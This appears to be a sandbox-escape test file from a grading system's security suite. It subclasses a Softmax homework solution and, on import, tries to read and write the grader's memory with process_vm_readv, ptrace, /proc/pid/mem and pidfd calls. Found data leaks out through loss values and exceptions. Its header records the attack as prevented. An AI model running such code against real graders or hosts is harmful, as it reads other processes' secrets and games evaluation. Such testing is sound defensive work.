"""
goal: traces, reads and writes the grader's memory by system calls that Python does not offer
class: read
threats: [A2, A6]
deserves: all
outcome: prevented
because: no process but its own can be seen, and the calls are refused by the filter of system calls
"""
import ctypes
import os
import platform
import re
import signal

from honest import Softmax as Honest
from tools import attempt, loot


libc = ctypes.CDLL(None, use_errno=True)
IS_ARM = platform.machine() in ('aarch64', 'arm64')


def call(x64, arm64, *args):
  result = libc.syscall(arm64 if IS_ARM else x64, *args)
  if result < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
  return result


class Vector(ctypes.Structure):
  _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]


def read_memory(pid):
  """ Writable memory from the top, where the environment is; without maps, where programs usually lie. """
  try:
    lines = [line.split() for line in open('/proc/%d/maps' % pid)]
    ranges = [tuple(int(end, 16) for end in line[0].split('-')) for line in reversed(lines) if line[1].startswith('rw')]
  except OSError:
    ranges = [(0x400000, 0x401000), (0x555555554000, 0x555555555000), (0x7ffffffde000, 0x7ffffffff000)]
  found, refused, count = set(), set(), 0
  for begin, end in ranges[:300]:
    size = min(end - begin, 1 << 22)
    buffer = ctypes.create_string_buffer(size)
    mine, theirs = Vector(ctypes.addressof(buffer), size), Vector(begin, size)
    try:
      count += call(310, 270, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    except OSError as error:
      refused.add(error.strerror)
    found.update(re.findall(b'canary-[0-9a-f]+', buffer.raw))
  return '%d bytes: %s %s' % (count, sorted(found), sorted(refused))


def trace(pid):
  libc.ptrace.restype = ctypes.c_long
  result = [libc.ptrace(request, pid, None, None) for request in (16, 0x4206, 0)]
  return '%s, errno %d' % (result, ctypes.get_errno())


def act(where):
  if where != 'import':
    return
  pids = sorted({os.getppid(), 1, 2, os.getpid()})
  for pid in pids:
    attempt('process_vm_readv %d' % pid, lambda: read_memory(pid))
    attempt('process_vm_writev %d' % pid, lambda: call(311, 271, pid, None, 0, None, 0, 0))
    attempt('kcmp %d' % pid, lambda: call(312, 272, pid, os.getpid(), 0, 0, 0))
    attempt('pidfd_open %d' % pid, lambda: call(434, 434, pid, 0))
    attempt('pidfd_getfd %d' % pid, lambda: call(438, 438, call(434, 434, pid, 0), 4, 0))
    attempt('process_madvise %d' % pid, lambda: call(440, 440, call(434, 434, pid, 0), None, 0, 4, 0))
    attempt('mem %d' % pid, lambda: open('/proc/%d/mem' % pid, 'rb').read(16))
    attempt('maps %d' % pid, lambda: open('/proc/%d/maps' % pid).read()[:500])
    attempt('fds %d' % pid, lambda: os.listdir('/proc/%d/fd' % pid))
    attempt('migrate_pages %d' % pid, lambda: call(256, 238, pid, 0, None, None))
    attempt('signal 0 to %d' % pid, lambda: os.kill(pid, 0))
    attempt('setpriority %d' % pid, lambda: os.setpriority(os.PRIO_PROCESS, pid, 19) if not os.path.exists('/proc/self') else None)
    attempt('affinity %d' % pid, lambda: os.sched_getaffinity(pid))
    attempt('prlimit %d' % pid, lambda: __import__('resource').prlimit(pid, 9))
    if pid != os.getpid() and not os.path.exists('/proc/self'):
      attempt('ptrace %d' % pid, lambda: trace(pid))
  attempt('perf_event_open', lambda: call(298, 241, None, 0, -1, -1, 0))
  attempt('yama', lambda: libc.prctl(0x59616d61, -1, 0, 0, 0))
  attempt('SIGCONT', lambda: os.kill(os.getppid(), signal.SIGCONT))


act('import')


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
